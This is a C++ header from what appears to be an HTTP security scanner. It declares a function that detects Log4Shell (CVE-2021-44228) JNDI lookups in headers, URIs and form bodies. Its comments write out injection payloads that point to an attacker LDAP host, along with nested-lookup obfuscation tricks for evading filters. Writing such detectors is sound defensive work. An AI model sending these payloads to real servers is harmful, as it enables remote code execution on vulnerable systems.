#pragma once
// Log4j JNDI lookups in HTTP text (CVE-2021-44228, "Log4Shell"): a request carrying
// "${jndi:ldap://attacker/x}" in a header, the URI or a form body makes a vulnerable Log4j 2
// that logs it fetch and run the attacker's code. Attackers hide the "jndi" keyword behind
// nested lookups that resolve to plain characters ("${${lower:j}ndi:", "${${::-j}${::-n}di:",
// "${${env:X:-j}ndi:"); the scanner resolves those the way Log4j would before matching.

#include <cstddef>
#include <optional>
#include <string>
#include <string_view>

namespace ward::parsers::http {

// Bytes of text examined per call; the rest is ignored (bounded work on hostile input).
inline constexpr std::size_t kJndiScanBytes = 16 * 1024;

// The first JNDI lookup in `text`, after percent-decoding (URIs and form bodies) and resolving
// lower/upper and default-value (":-") lookups nested up to 8 deep: the lookup as Log4j would
// see it ("${jndi:ldap://10.0.0.1:1389/a}"), clipped to 160 bytes. Also a bare
// "jndi:<scheme>://" with a JNDI provider scheme (ldap, ldaps, rmi, dns, iiop, corba, nds, nis),
// which tools whose "${...}" was eaten by a shell still send. nullopt if there is none.
std::optional<std::string> find_jndi_lookup(std::string_view text);

}  // namespace ward::parsers::http
